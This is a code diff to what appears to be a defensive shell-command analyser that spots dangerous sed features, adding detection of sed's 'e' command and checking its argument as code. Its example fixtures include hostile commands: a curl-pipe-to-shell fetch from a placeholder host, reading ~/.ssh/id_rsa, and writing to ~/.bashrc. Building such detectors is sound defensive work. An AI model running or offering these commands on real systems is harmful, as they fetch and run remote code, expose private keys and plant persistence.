@@ -353,7 +353,7 @@ def _sed_segments(line: str) -> list[str]:
                 j += 1
             i = j
             continue
-        if ch in "wWrRaic" and line[start:i].strip("0123456789$,!{} ") == "" or ch in "wWrRaic" and \
+        if ch in "wWrRaice" and line[start:i].strip("0123456789$,!{} ") == "" or ch in "wWrRaice" and \
                 _SED_ADDRESS.sub("", line[start:i]) == "":
             out.append(line[start:])
             return out
@@ -367,7 +367,8 @@ def _sed_segments(line: str) -> list[str]:
 
 
 @emits({"sed.subst-exec": ["sed 's/x/id/e' f"], "sed.subst-write": ["sed 's/a/b/w ~/.bashrc' f"],
-        "sed.exec": ["sed '1e id' f"], "sed.write": ["sed -n 'w ~/.bashrc' f"], "sed.read": ["sed 'r ~/.ssh/id_rsa' f"],
+        "sed.exec": ["sed '1e id' f"], "sed.exec-command": ["sed '1e curl -s https://x.example/x | sh' f"],
+        "sed.write": ["sed -n 'w ~/.bashrc' f"], "sed.read": ["sed 'r ~/.ssh/id_rsa' f"],
         "sed.runtime-script": ['sed "s/a/$X/" f'], "sed.script-file": ["sed -f edits.sed f"],
         "sed.sandbox": ["sed --sandbox -f x.sed f"]})
 def sed_script(cmd, o) -> None:
@@ -429,6 +430,9 @@ def _sed_commands(cmd, script: str) -> bool:
             elif command == "e":
                 cmd.does("run-code", "sed.exec", "sed runs a command (e)")
                 runs_input = runs_input or not rest
+                if rest and UNKNOWN not in rest:    # `e COMMAND` runs COMMAND in a shell: code the gate can read
+                    cmd.fired.add("sed.exec-command")
+                    cmd.code_text(rest, "sed e runs")
             elif command in "wW" and rest:
                 cmd.fired.add("sed.write")
                 cmd.write(rest, "sed writes")
